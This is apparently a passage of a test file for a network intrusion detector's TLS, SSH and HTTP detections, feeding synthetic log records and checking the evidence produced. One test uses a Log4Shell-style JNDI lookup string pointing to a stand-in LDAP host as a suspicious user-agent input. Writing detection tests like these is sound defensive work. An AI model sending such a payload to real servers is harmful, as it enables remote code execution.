// TLS, SSH, HTTP-analyzer and ARP detections, and the knowledge they read (local JA3/JA3S/cert
// threat intel, organisation domains and IP ranges, MAC vendors). For each evidence type: the
// smallest record sequence that fires it (exact description, level, confidence, roles) and a near
// miss that must not.

import test from 'ava';
import { cpSync, mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseFingerprintFile, parseMacVendors, parseOrgData } from '../core/knowledge.js';
import { arpDetector } from '../detections/arp.js';
import { httpAnalyzerDetector, isIncompatibleUserAgent, parseUserAgent } from '../detections/httpAnalyzer.js';
import { bruteForceConfidence, sshDetector } from '../detections/ssh.js';
import { ConnJoin } from '../detections/connByUid.js';
import { certNameMatches, registeredDomain, tlsDetector } from '../detections/tls.js';
import type {
  ArpRecord, FilesRecord, NoticeRecord, SoftwareRecord, SshRecord, WeirdRecord, X509Record,
} from '../inputs/records.js';
import { CONFIG_DIR, DetectionHarness, conn, http, ssl } from './helpers/detectionHarness.js';

const T0 = 1_700_000_000;
const BASE = { uid: 'A0', saddr: '10.0.0.5', daddr: '1.2.3.4', interface: 'default', source: 'zeek' } as const;
const SRC = (value: string) => ({ direction: 'SRC', ioc_type: 'IP', value }) as const;
const DST = (value: string) => ({ direction: 'DST', ioc_type: 'IP', value }) as const;

function ssh(fields: Partial<SshRecord> = {}): SshRecord {
  return {
    kind: 'ssh', ts: T0, ...BASE, sport: 50000, dport: 22, version: 2, auth_success: null, auth_attempts: 0,
    client: '', server: '', cipher_alg: '', mac_alg: '', compression_alg: '', kex_alg: '', host_key_alg: '', host_key: '',
    ...fields,
  };
}

function arp(fields: Partial<ArpRecord> = {}): ArpRecord {
  return {
    kind: 'arp', ts: T0, ...BASE, uid: '', saddr: '192.168.1.15', daddr: '192.168.1.20', operation: 'request',
    src_hw: 'aa:aa:aa:aa:aa:01', dst_hw: '00:00:00:00:00:00', smac: 'aa:aa:aa:aa:aa:01', dmac: 'ff:ff:ff:ff:ff:ff',
    ...fields,
  };
}

function files(fields: Partial<FilesRecord> = {}): FilesRecord {
  return {
    kind: 'files', ts: T0, ...BASE, uid: 'F1', saddr: '1.2.3.4', daddr: '10.0.0.5', conn_uids: ['C1'],
    tx_hosts: ['1.2.3.4'], rx_hosts: ['10.0.0.5'], file_source: 'SSL', analyzers: ['MD5', 'SHA1', 'X509'],
    mime_type: 'application/x-x509-ca-cert', md5: '', sha1: '', sha256: '', size: 1000,
    ...fields,
  };
}

function software(fields: Partial<SoftwareRecord> = {}): SoftwareRecord {
  return {
    kind: 'software', ts: T0, ...BASE, uid: '', daddr: '', sport: 0, software: 'SSH::CLIENT', software_name: 'libssh',
    version_major: '0', version_minor: '9', unparsed_version: 'libssh_0.9.6', http_browser: false,
    ...fields,
  };
}

function notice(fields: Partial<NoticeRecord> = {}): NoticeRecord {
  return {
    kind: 'notice', ts: T0, ...BASE, uid: 'N1', sport: 0, dport: 22, note: 'SSH::Password_Guessing',
    msg: '10.0.0.5 appears to be guessing SSH passwords (seen in 30 connections).', sub: '', scanning_ip: '10.0.0.5',
    scanned_port: '', dst: '',
    ...fields,
  };
}

function weird(fields: Partial<WeirdRecord> = {}): WeirdRecord {
  return { kind: 'weird', ts: T0, ...BASE, uid: 'W1', name: 'unknown_HTTP_method', addl: 'FOO', notice: false, peer: 'zeek', ...fields };
}

/** A copy of config/ with extra files (path relative to config/ -> content), removed after the run. */
function configWith(extra: Record<string, string>): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'slips-knowledge-'));
  cpSync(CONFIG_DIR, dir, { recursive: true });
  for (const [file, content] of Object.entries(extra)) {
    mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    writeFileSync(path.join(dir, file), content);
  }
  return dir;
}

const tempDirs: string[] = [];
function tempConfig(extra: Record<string, string>): string {
  const dir = configWith(extra);
  tempDirs.push(dir);
  return dir;
}
test.after.always(() => {
  for (const dir of tempDirs) rmSync(dir, { recursive: true, force: true });
});

// ---------------------------------------------------------------- knowledge

test('own_malicious_JA3.csv: both shipped hashes, levels trimmed, JA3S falls back to it', (t) => {
  const knowledge = new DetectionHarness([]).knowledge;
  t.deepEqual(knowledge.ja3Ioc('6734f37431670b3ab4292b8f60f29984'),
    { description: 'Trickbot Malware', threatLevel: 'high', source: 'own_malicious_JA3.csv' });
  t.deepEqual(knowledge.ja3Ioc('E7D705A3286E19EA42F587B344EE6865'),
    { description: 'Standard tor client', threatLevel: 'medium', source: 'own_malicious_JA3.csv' });
  t.is(knowledge.ja3sIoc('e7d705a3286e19ea42f587b344ee6865')?.description, 'Standard tor client');
  t.is(knowledge.ja3Ioc('00000000000000000000000000000000'), undefined);
  t.is(knowledge.sslCertIoc('0'.repeat(40)), undefined);
});

test('parseFingerprintFile: first row kept, bad hashes skipped, unknown level -> medium, commas in text', (t) => {
  const parsed = parseFingerprintFile(
    '# c\n"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","low","first"\nnot-a-hash,high,x\n' +
    'BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB, severe, "a, b"\n',
    32, 'f.csv');
  t.deepEqual([...parsed.keys()], ['aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb']);
  t.is(parsed.get('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')?.threatLevel, 'low');
  t.deepEqual(parsed.get('bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'), { description: 'a, b', threatLevel: 'medium', source: 'f.csv' });
});

test('a separate own_malicious_JA3S.csv replaces the JA3 list for JA3S lookups', (t) => {
  const dir = tempConfig({ 'local_ti_files/own_malicious_JA3S.csv': '"cccccccccccccccccccccccccccccccc","critical","C2 server"\n' });
  const knowledge = new DetectionHarness([], dir).knowledge;
  t.is(knowledge.ja3sIoc('cccccccccccccccccccccccccccccccc')?.threatLevel, 'critical');
  t.is(knowledge.ja3sIoc('e7d705a3286e19ea42f587b344ee6865'), undefined);
  t.is(knowledge.ja3Ioc('e7d705a3286e19ea42f587b344ee6865')?.description, 'Standard tor client');
});

test('organisations: IP ranges (v4, v6), domains with subdomains but no look-alikes', (t) => {
  const knowledge = new DetectionHarness([]).knowledge;
  t.deepEqual([...knowledge.orgs()], ['google', 'microsoft', 'apple', 'facebook', 'twitter']);
  t.true(knowledge.isIpInOrg('8.8.8.8', 'google'));
  t.true(knowledge.isIpInOrg('142.251.36.14', 'google'));
  t.false(knowledge.isIpInOrg('52.0.131.132', 'google'));
  t.is(knowledge.orgOfIp('157.240.1.35'), 'facebook');
  t.is(knowledge.orgOfIp('2a03:2880:f10c::1'), 'facebook');
  t.is(knowledge.orgOfIp('104.244.42.1'), 'twitter');
  // microsoft_ip_ranges and apple_ip_ranges (bing.com, Azure, Office 365; Apple's 17/8).
  t.is(knowledge.orgOfIp('204.79.197.200'), 'microsoft');
  t.is(knowledge.orgOfIp('40.126.1.1'), 'microsoft');
  t.is(knowledge.orgOfIp('2603:1030:20c::1'), 'microsoft');
  t.is(knowledge.orgOfIp('17.253.144.10'), 'apple');
  t.is(knowledge.orgOfIp('1.1.1.1'), undefined);
  t.is(knowledge.orgOfIp('not-an-ip'), undefined);
  t.true(knowledge.isOrgDomain('www.google.com', 'google'));
  t.true(knowledge.isOrgDomain('Mail.Google.com.', 'google'));
  t.false(knowledge.isOrgDomain('evilgoogle.com', 'google'));
  t.false(knowledge.isOrgDomain('google.com.evil.tld', 'google'));
  t.true(knowledge.isOrgDomain('login.live.com', 'microsoft'));
  t.false(knowledge.isOrgDomain('www.google.com', 'unknown-org'));
  const parsed = parseOrgData('# x\nExample.COM\n', '10.0.0.0/25\n10.0.0.128/25\nbad\n2001:db8::/32\n');
  t.deepEqual([...parsed.domains], ['example.com']);
  t.is(parsed.v4.length, 1);
  t.is(parsed.v6.length, 1);
});

test('MAC vendors: JSON array or JSON lines, looked up by OUI', (t) => {
  const entry = { macPrefix: '00:1B:63', vendorName: 'Apple, Inc.' };
  t.deepEqual([...parseMacVendors(JSON.stringify([entry]))], [['00:1B:63', 'Apple, Inc.']]);
  t.deepEqual([...parseMacVendors(`${JSON.stringify(entry)},\n${JSON.stringify({ macPrefix: 'x' })}\n`)], [['00:1B:63', 'Apple, Inc.']]);
  const dir = tempConfig({ 'macaddress-db.json': JSON.stringify([entry]) });
  const knowledge = new DetectionHarness([], dir).knowledge;
  t.is(knowledge.macVendor('00:1b:63:aa:bb:cc'), 'Apple, Inc.');
  t.is(knowledge.macVendor('00:00:00:aa:bb:cc'), undefined);
  t.is(new DetectionHarness([]).knowledge.macVendor('00:1b:63:aa:bb:cc'), undefined);
});

// ---------------------------------------------------------------- TLS

test('SELF_SIGNED_CERTIFICATE: a pair, LOW, 0.5, with the SNI; a valid certificate does not fire', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  harness.feed(ssl({ validation_status: 'ok' }), ssl({ validation_status: 'self signed certificate', server_name: 'a.example' }));
  const pair = harness.ofType('SELF_SIGNED_CERTIFICATE');
  t.is(pair.length, 2);
  t.is(pair[0]?.description, 'Self-signed certificate. Destination IP: 1.2.3.4. SNI: a.example.');
  t.deepEqual([pair[0]?.attacker, pair[1]?.attacker], [SRC('10.0.0.5'), DST('1.2.3.4')]);
  t.deepEqual([pair[0]?.threat_level, pair[1]?.threat_level, pair[0]?.confidence], ['low', 'low', 0.5]);
  harness.feed(ssl({ validation_status: 'self signed certificate in certificate chain' }));
  t.is(harness.ofType('SELF_SIGNED_CERTIFICATE')[2]?.description, 'Self-signed certificate. Destination IP: 1.2.3.4.');
});

test('MALICIOUS_JA3: the test15 line, feed level, confidence 1; an unknown JA3 does not fire', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  harness.feed(ssl({ ja3: '8916410db85077a5460817142dcbc8de' }));
  t.is(harness.evidence.length, 0);
  harness.feed(ssl({ saddr: '10.0.2.15', daddr: '22.33.22.33', ja3: '6734f37431670b3ab4292b8f60f29984' }));
  const [ja3] = harness.ofType('MALICIOUS_JA3');
  t.is(ja3?.description, 'Malicious JA3: 6734f37431670b3ab4292b8f60f29984 from source address 10.0.2.15 to 22.33.22.33. description: Trickbot Malware.');
  t.deepEqual([ja3?.threat_level, ja3?.confidence, ja3?.attacker, ja3?.victim], ['high', 1, SRC('10.0.2.15'), DST('22.33.22.33')]);
});

test('MALICIOUS_JA3S: the test9 line; the server (DST) with the feed level, the client LOW', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  harness.feed(ssl({ daddr: '123.33.22.11', ja3s: 'e7d705a3286e19ea42f587b344ee6865' }), ssl({ ja3s: '49ed2ef3f1321e5f044f1e71b0e6fdd5' }));
  const pair = harness.ofType('MALICIOUS_JA3S');
  t.is(pair.length, 2);
  t.is(pair[0]?.description, 'Malicious JA3s: (possible C&C server): e7d705a3286e19ea42f587b344ee6865 to server 123.33.22.11. description: Standard tor client.');
  t.deepEqual([pair[0]?.attacker, pair[0]?.threat_level], [DST('123.33.22.11'), 'medium']);
  t.deepEqual([pair[1]?.attacker, pair[1]?.threat_level], [SRC('10.0.0.5'), 'low']);
});

test('INCOMPATIBLE_CN: the server is blamed; an org IP or an org SNI clears it', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  const google = { subject: 'CN=www.google.com', server_name: 'netflix.com' };
  harness.feed(
    ssl({ ...google, daddr: '142.250.1.1' }),
    ssl({ subject: 'CN=www.google.com', server_name: 'mail.google.com', daddr: '52.0.131.132' }),
    ssl({ subject: 'CN=example.org', server_name: 'netflix.com', daddr: '52.0.131.132' }),
  );
  t.is(harness.ofType('INCOMPATIBLE_CN').length, 0);
  harness.feed(ssl({ ...google, saddr: '10.0.2.15', daddr: '52.0.131.132' }));
  const [cn] = harness.ofType('INCOMPATIBLE_CN');
  t.is(cn?.description, 'Incompatible certificate CN to IP: 52.0.131.132 domain: netflix.com. The certificate is claiming to belong to Google.');
  t.deepEqual([cn?.attacker, cn?.victim, cn?.threat_level, cn?.confidence], [DST('52.0.131.132'), SRC('10.0.2.15'), 'medium', 0.9]);
});

test('CN_URL_MISMATCH: RFC 6125 matching, same registrable domain or org is no mismatch', (t) => {
  t.true(certNameMatches('*.example.com', 'a.example.com'));
  t.false(certNameMatches('*.example.com', 'a.b.example.com'));
  t.false(certNameMatches('*.example.com', 'example.com'));
  t.false(certNameMatches('example.com', 'example.com.evil.tld'));
  t.false(certNameMatches('a.c', 'abc'));
  t.is(registeredDomain('www.bbc.co.uk'), 'bbc.co.uk');
  t.is(registeredDomain('a.b.example.com.'), 'example.com');
  const harness = new DetectionHarness([tlsDetector]);
  harness.feed(
    ssl({ subject: 'CN=example.com,O=Example', server_name: 'sub.example.com' }),
    ssl({ subject: 'CN=*.example.com', server_name: 'a.example.com' }),
    ssl({ subject: 'CN=*.google.com', server_name: 'www.youtube.com', daddr: '142.250.1.1' }),
    ssl({ subject: 'O=No CN', server_name: 'another.com' }),
  );
  t.is(harness.ofType('CN_URL_MISMATCH').length, 0);
  harness.feed(ssl({ subject: 'CN=example.com', server_name: 'example.com.evil.tld', daddr: '5.6.7.8' }));
  const pair = harness.ofType('CN_URL_MISMATCH');
  t.is(pair.length, 2);
  t.is(pair[0]?.description, "a CN mismatch. The common name (CN) 'example.com' in the SSL certificate for the domain 'example.com.evil.tld' does not match the server's domain.");
  t.deepEqual([pair[0]?.attacker, pair[0]?.victim, pair[0]?.threat_level], [SRC('10.0.0.5'), { direction: 'DST', ioc_type: 'DOMAIN', value: 'example.com.evil.tld' }, 'low']);
  t.deepEqual([pair[1]?.attacker.ioc_type, pair[1]?.profile_ip, pair[1]?.threat_level, pair[1]?.confidence], ['DOMAIN', '5.6.7.8', 'medium', 0.8]);
});

function x509(fields: Partial<X509Record> = {}): X509Record {
  return {
    kind: 'x509', ts: T0, uid: '', saddr: '', daddr: '', interface: 'default', source: 'zeek', fingerprint: 'F1',
    certificate_version: 3, certificate_serial: '01', certificate_subject: '', certificate_issuer: '', not_valid_before: 0,
    not_valid_after: 0, key_alg: 'rsaEncryption', sig_alg: 'sha256WithRSAEncryption', key_type: 'rsa', key_length: 2048,
    san_dns: [], san_ip: [], basic_constraints_ca: false,
    ...fields,
  };
}

test('x509: the SNI matching a DNS SAN is no CN mismatch; the certificate is awaited up to 5 s', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  // Zeek 6 ssl.log: no subject, the certificate comes just after in x509.log.
  harness.feed(ssl({ server_name: 'shop.example.org', daddr: '5.6.7.8', cert_chain_fuids: ['F1', 'F2'] }));
  harness.feed(x509({ ts: T0 + 0.01, certificate_subject: 'CN=*.example.com,O=Example', san_dns: ['*.example.com', 'shop.example.org'] }));
  t.is(harness.ofType('CN_URL_MISMATCH').length, 0);
  // A later connection with the same certificate (logged once) and an SNI no name covers.
  harness.feed(ssl({ ts: T0 + 1, uid: 'C2', server_name: 'login.example.net', daddr: '5.6.7.8', cert_chain_fuids: ['F1'] }));
  const pair = harness.ofType('CN_URL_MISMATCH');
  t.is(pair.length, 2);
  t.is(pair[0]?.description, "a CN mismatch. The common name (CN) '*.example.com' in the SSL certificate for the domain 'login.example.net' does not match the server's domain.");
  // The x509 subject names Google while neither the IP nor the SNI is Google's.
  harness.feed(ssl({ ts: T0 + 2, uid: 'C3', server_name: 'netflix.com', daddr: '52.0.131.132', cert_chain_fuids: ['G1'] }));
  t.is(harness.ofType('INCOMPATIBLE_CN').length, 0);
  harness.feed(x509({ ts: T0 + 2.01, fingerprint: 'G1', certificate_subject: 'CN=www.google.com,O=Google LLC', san_dns: ['www.google.com'] }));
  t.is(harness.ofType('INCOMPATIBLE_CN')[0]?.description,
    'Incompatible certificate CN to IP: 52.0.131.132 domain: netflix.com. The certificate is claiming to belong to Google.');
});

test('x509: without its certificate a TLS record is checked with its own subject once 5 s passed', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  harness.feed(ssl({ subject: 'CN=example.com', server_name: 'other.org', daddr: '5.6.7.8', cert_chain_fuids: ['F9'] }));
  harness.feed(ssl({ ts: T0 + 5, uid: 'C2', server_name: 'a.example.com', cert_chain_fuids: [] }));
  t.is(harness.ofType('CN_URL_MISMATCH').length, 0);
  harness.feed(ssl({ ts: T0 + 5.5, uid: 'C3', server_name: 'a.example.com', cert_chain_fuids: [] }));
  t.is(harness.ofType('CN_URL_MISMATCH').length, 2);
  // At the end of input a record still waiting is checked too; a certificate arriving late changes nothing.
  harness.feed(ssl({ ts: T0 + 6, uid: 'C4', subject: 'CN=example.com', server_name: 'other.net', cert_chain_fuids: ['F8'] }));
  harness.finish();
  harness.feed(x509({ ts: T0 + 7, fingerprint: 'F8', san_dns: ['other.net'] }));
  t.is(harness.ofType('CN_URL_MISMATCH').length, 4);
});

test('DoH is reported as DIFFERENT_LOCALNET against the DNS server, INFO 0.9', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  harness.feed(ssl({ is_DoH: false }), ssl({ daddr: '9.9.9.9', is_DoH: true }));
  const [doh, ...rest] = harness.ofType('DIFFERENT_LOCALNET');
  t.is(rest.length, 0);
  t.is(doh?.description, 'using DNS over HTTPs. DNS server: 9.9.9.9 ');
  t.deepEqual([doh?.attacker, doh?.victim, doh?.threat_level, doh?.confidence], [DST('9.9.9.9'), SRC('10.0.0.5'), 'info', 0.9]);
});

test('PASTEBIN_DOWNLOAD over TLS: conn dbytes of the same uid, before or within 40 s after', (t) => {
  const harness = new DetectionHarness([tlsDetector]);
  harness.feed(conn({ uid: 'P1', dport: 443, dbytes: 1024 * 1024 }), ssl({ uid: 'P1', server_name: 'pastebin.com' }));
  const [paste] = harness.ofType('PASTEBIN_DOWNLOAD');
  t.is(paste?.description, 'A downloaded file from pastebin.com. size: 1.048576 MBs');
  t.deepEqual([paste?.threat_level, paste?.confidence, paste?.uid], ['info', 1, ['P1']]);
  harness.feed(ssl({ ts: T0 + 1, uid: 'P2', server_name: 'pastebin.com' }), conn({ ts: T0 + 30, uid: 'P2', dbytes: 700 }));
  t.is(harness.ofType('PASTEBIN_DOWNLOAD').length, 2);
  harness.feed(
    conn({ ts: T0 + 31, uid: 'P3', dbytes: 699 }), ssl({ ts: T0 + 31, uid: 'P3', server_name: 'pastebin.com' }),
    ssl({ ts: T0 + 32, uid: 'P4', server_name: 'pastebin.com' }), conn({ ts: T0 + 100, uid: 'Px' }),
    conn({ ts: T0 + 101, uid: 'P4', dbytes: 5000 }),
    conn({ ts: T0 + 102, uid: 'P5', dbytes: 5000 }), ssl({ ts: T0 + 102, uid: 'P5', server_name: 'example.com' }),
  );
  t.is(harness.ofType('PASTEBIN_DOWNLOAD').length, 2);
});

test('MALICIOUS_SSL_CERT: the certificate sender (files.log tx host) is the DST attacker', (t) => {
  const sha1 = 'a'.repeat(40);
  const dir = tempConfig({ 'local_ti_files/own_malicious_SSL_certs.csv': `"${sha1}","high","Dridex C&C"\n` });
  const harness = new DetectionHarness([tlsDetector], dir);
  harness.feed(files({ sha1, analyzers: ['MD5'] }), files({ sha1: 'b'.repeat(40) }));
  t.is(harness.evidence.length, 0);
  harness.feed(files({ sha1 }));
  const pair = harness.ofType('MALICIOUS_SSL_CERT');
  t.is(pair[0]?.description, 'Malicious SSL certificate to server 1.2.3.4. description: Dridex C&C');
  t.deepEqual([pair[0]?.attacker, pair[0]?.victim, pair[0]?.threat_level, pair[0]?.uid], [DST('1.2.3.4'), SRC('10.0.0.5'), 'high', ['C1']]);
  t.deepEqual([pair[1]?.attacker, pair[1]?.threat_level, pair[1]?.confidence], [SRC('10.0.0.5'), 'low', 1]);
});

test('conn join: TCP flows with payload only, kept 300 s of network time; a record may wait for its flow', (t) => {
  const join = new ConnJoin();
  const found: string[] = [];
  const ask = (uid: string, ts: number, maxWait = 0): void =>
    join.request(uid, ts, maxWait, (flow) => found.push(`${uid}:${flow.sbytes}/${flow.dbytes}@${flow.ts - T0}`));
  join.onConn(conn({ uid: 'J1', sbytes: 10, dbytes: 20 }));
  join.onConn(conn({ uid: 'J2', proto: 'udp' }));
  join.onConn(conn({ uid: 'J3', sbytes: 0, dbytes: 0 }));
  ask('J1', T0);
  ask('J2', T0);
  ask('J3', T0);
  t.deepEqual(found, ['J1:10/20@0']);
  // Asked before its flow: answered when the flow comes within the wait, not after it.
  ask('J4', T0 + 1, 15);
  ask('J5', T0 + 1, 15);
  join.onConn(conn({ ts: T0 + 10, uid: 'J4', sbytes: 1, dbytes: 2 }));
  join.advanceTime(T0 + 17);
  join.onConn(conn({ ts: T0 + 17, uid: 'J5', sbytes: 1, dbytes: 2 }));
  t.deepEqual(found, ['J1:10/20@0', 'J4:1/2@10']);
  // Flows older than 300 s of network time are forgotten.
  join.advanceTime(T0 + 300);
  ask('J1', T0 + 300);
  join.advanceTime(T0 + 301);
  ask('J1', T0 + 301);
  t.deepEqual(found, ['J1:10/20@0', 'J4:1/2@10', 'J1:10/20@0']);
});

// ---------------------------------------------------------------- SSH

test('SSH_SUCCESSFUL: Zeek says so (boolean) or bytes exceed 4290; once per TW and server', (t) => {
  const harness = new DetectionHarness([sshDetector]);
  harness.feed(conn({ uid: 'S1', dport: 22, sbytes: 100, dbytes: 200 }), ssh({ uid: 'S1', auth_success: true }));
  const [zeek] = harness.ofType('SSH_SUCCESSFUL');
  t.is(zeek?.description, 'SSH successful to IP 1.2.3.4. From IP 10.0.0.5. Sent bytes: 300. Detection model Zeek. Confidence 0.8');
  t.deepEqual([zeek?.attacker, zeek?.victim, zeek?.threat_level, zeek?.confidence, zeek?.uid], [SRC('10.0.0.5'), DST('1.2.3.4'), 'info', 0.8, ['S1']]);
  harness.feed(conn({ uid: 'S2', dport: 22, sbytes: 5000 }), ssh({ uid: 'S2', auth_success: true }));
  t.is(harness.ofType('SSH_SUCCESSFUL').length, 1);
  harness.feed(
    conn({ uid: 'S3', daddr: '5.6.7.8', dport: 22, sbytes: 4190, dbytes: 100 }), ssh({ uid: 'S3', daddr: '5.6.7.8' }),
    ssh({ ts: T0 + 1, uid: 'S4', daddr: '5.6.7.8' }), conn({ ts: T0 + 2, uid: 'S4', daddr: '5.6.7.8', dport: 22, sbytes: 4191, dbytes: 100 }),
  );
  const slips = harness.ofType('SSH_SUCCESSFUL');
  t.is(slips.length, 2);
  t.is(slips[1]?.description, 'SSH successful to IP 5.6.7.8. From IP 10.0.0.5. Sent bytes: 4291. Detection model Slips. Confidence 0.8');
  t.is(slips[1]?.timestamp, T0 + 1);
  harness.feed(ssh({ ts: T0 + 3, uid: 'S5', daddr: '9.9.9.9', auth_success: true }), conn({ ts: T0 + 20, uid: 'S0' }),
    conn({ ts: T0 + 21, uid: 'S5', daddr: '9.9.9.9', dport: 22 }));
  t.is(harness.ofType('SSH_SUCCESSFUL').length, 2);
});

test('PASSWORD_GUESSING: reported at 9, 10, 12, 16, 24 attempts with the exact text', (t) => {
  const harness = new DetectionHarness([sshDetector]);
  for (let i = 0; i < 24; i++) harness.feed(ssh({ ts: T0 + i, uid: `B${i}`, auth_success: false, client: 'SSH-2.0-OpenSSH_8.1' }));
  const evidence = harness.ofType('PASSWORD_GUESSING');
  t.deepEqual(evidence.map((e) => /Attempts observed: (\d+)/.exec(e.description)?.[1]), ['9', '10', '12', '16', '24']);
  const first = evidence[0];
  t.is(first?.description,
    'SSH brute force detector from 10.0.0.5 to 1.2.3.4 on ssh 22/tcp. Attempts observed: 9. ' +
    'Client banner: SSH-2.0-OpenSSH_8.1 from ssh.log. Confidence: 0.52. by Slips');
  t.deepEqual([first?.attacker, first?.victim, first?.threat_level, first?.confidence, first?.dst_port, first?.proto],
    [SRC('10.0.0.5'), DST('1.2.3.4'), 'medium', 0.52, 22, 'tcp']);
  t.is(first?.uid.length, 9);
  t.is(first?.timestamp, T0 + 8);
  t.is(evidence[4]?.confidence, 0.81);
});

test('PASSWORD_GUESSING: 8 attempts or successful logins do not fire; attempts count; port names', (t) => {
  const harness = new DetectionHarness([sshDetector]);
  harness.feed(...Array.from({ length: 8 }, (_, i) => ssh({ ts: T0 + i, uid: `B${i}` })));
  harness.feed(...Array.from({ length: 5 }, (_, i) => ssh({ ts: T0 + 10 + i, auth_success: true })));
  t.is(harness.ofType('PASSWORD_GUESSING').length, 0);
  harness.feed(ssh({ ts: T0 + 20, dport: 2222, auth_attempts: 9 }));
  t.is(harness.ofType('PASSWORD_GUESSING')[0]?.description,
    'SSH brute force detector from 10.0.0.5 to 1.2.3.4 on 2222/tcp. Attempts observed: 9. Confidence: 0.5. by Slips');
});

test('PASSWORD_GUESSING: software.log banner and the Zeek notice (reported once, confirms later evidence)', (t) => {
  const harness = new DetectionHarness([sshDetector]);
  harness.feed(software(), notice(), notice({ ts: T0 + 1, uid: 'N2' }));
  const [zeek, ...rest] = harness.ofType('PASSWORD_GUESSING');
  t.is(rest.length, 0);
  t.is(zeek?.description,
    'SSH brute force detector. 10.0.0.5 appears to be guessing SSH passwords (seen in 30 connections).. ' +
    'Confirmed by Zeek notice.log. Confidence: 1.0. by Zeek');
  t.deepEqual([zeek?.attacker, zeek?.victim, zeek?.threat_level, zeek?.confidence, zeek?.uid], [SRC('10.0.0.5'), undefined, 'medium', 1, ['N1']]);
  harness.feed(...Array.from({ length: 9 }, (_, i) => ssh({ ts: T0 + 2 + i, uid: `B${i}` })));
  t.is(harness.ofType('PASSWORD_GUESSING')[1]?.description,
    'SSH brute force detector from 10.0.0.5 to 1.2.3.4 on ssh 22/tcp. Attempts observed: 9. ' +
    'Client banner: libssh libssh_0.9.6 from software.log. Confirmed by Zeek notice.log. Confidence: 1.0. by Slips');
  t.is(bruteForceConfidence(9, 9, { text: 'libssh_0.9.6', source: 'software.log' }, 0), 0.6);
  t.is(bruteForceConfidence(19, 9, { text: 'PuTTY', source: 'ssh.log' }, 0), 0.71);
  t.is(bruteForceConfidence(9, 9, { text: '', source: '' }, 30), 1);
  harness.feed(notice({ ts: T0 + 20, note: 'SSH::Login_By_Password_Guesser', saddr: '10.0.0.9' }));
  t.is(harness.ofType('PASSWORD_GUESSING').length, 2);
});

// ---------------------------------------------------------------- HTTP

test('SUSPICIOUS_USER_AGENT: whole-word tokens, once per TW and user agent', (t) => {
  const harness = new DetectionHarness([httpAnalyzerDetector]);
  harness.feed(http({ user_agent: 'Mozilla/5.0 pbsclient webpb' }), http({ user_agent: 'Mozilla/5.0 (Windows NT 6.1)' }));
  t.is(harness.ofType('SUSPICIOUS_USER_AGENT').length, 0);
  const ua = '${jndi:ldap://xyz.xyz.com:39356/a}';
  harness.feed(http({ user_agent: ua, host: '112.255.161.10', uri: '/bin.sh' }), http({ user_agent: ua }), http({ user_agent: 'PB/1.0' }));
  const [jndi, pb, ...rest] = harness.ofType('SUSPICIOUS_USER_AGENT');
  t.is(rest.length, 0);
  t.is(jndi?.description, `Suspicious user-agent: ${ua} while connecting to 112.255.161.10/bin.sh`);
  t.deepEqual([jndi?.attacker, jndi?.threat_level, jndi?.confidence], [SRC('10.0.0.5'), 'high', 1]);
  t.is(pb?.description, 'Suspicious user-agent: PB/1.0 while connecting to example.com/');
});

test('EMPTY_CONNECTIONS: 4 empty requests of one profile to one site; other senders do not add up', (t) => {
  const harness = new DetectionHarness([httpAnalyzerDetector]);
  const empty = (i: number, saddr = '10.0.0.5') => http({ ts: T0 + i, uid: `E${i}`, saddr, host: i % 2 ? 'www.google.com' : 'google.com' });
  harness.feed(empty(0), empty(1), empty(2), empty(3, '10.0.0.6'), http({ host: 'google.com', uri: '/search' }),
    http({ host: 'google.com', request_body_len: 10 }));
  t.is(harness.ofType('EMPTY_CONNECTIONS').length, 0);
  harness.feed(empty(4));
  const [evidence] = harness.ofType('EMPTY_CONNECTIONS');
  t.is(evidence?.description, 'Multiple empty HTTP connections to google.com');
  t.deepEqual([evidence?.attacker, evidence?.threat_level, evidence?.confidence, evidence?.uid],
    [SRC('10.0.0.5'), 'medium', 1, ['E0', 'E1', 'E2', 'E4']]);
});

test('MULTIPLE_USER_AGENT: a later user agent that does not name the first one\'s OS', (t) => {
  const linux = 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0';
  const mac = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.1 Safari/605.1.15';
  const harness = new DetectionHarness([httpAnalyzerDetector]);
  harness.feed(http({ user_agent: linux }), http({ user_agent: 'Wget/1.21 (Linux)' }), http({ user_agent: `${linux} extra` }));
  t.is(harness.ofType('MULTIPLE_USER_AGENT').length, 0);
  harness.feed(http({ user_agent: mac }), http({ user_agent: mac }));
  const [multiple, ...rest] = harness.ofType('MULTIPLE_USER_AGENT');
  t.is(rest.length, 0);
  t.is(multiple?.description, `Using multiple user-agents: "${linux}" then "${mac}"`);
  t.deepEqual([multiple?.threat_level, multiple?.confidence], ['info', 1]);
  const unknown = new DetectionHarness([httpAnalyzerDetector]);
  unknown.feed(http({ user_agent: 'curl/8.0' }), http({ user_agent: mac }));
  t.is(unknown.ofType('MULTIPLE_USER_AGENT').length, 0);
});

test('parseUserAgent: a local stand-in for useragentstring.com', (t) => {
  t.deepEqual(parseUserAgent('server-bag[macOS,11.5.1,20G80,MacBookAir10,1]'),
    { user_agent: 'server-bag[macOS,11.5.1,20G80,MacBookAir10,1]', os_name: 'macOS', os_type: 'macOS11.5.1', browser: '' });
  const chrome = parseUserAgent('Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.101 Safari/537.36');
  t.deepEqual([chrome.os_type, chrome.os_name, chrome.browser], ['Windows', 'Windows NT 6.1', 'Chrome']);
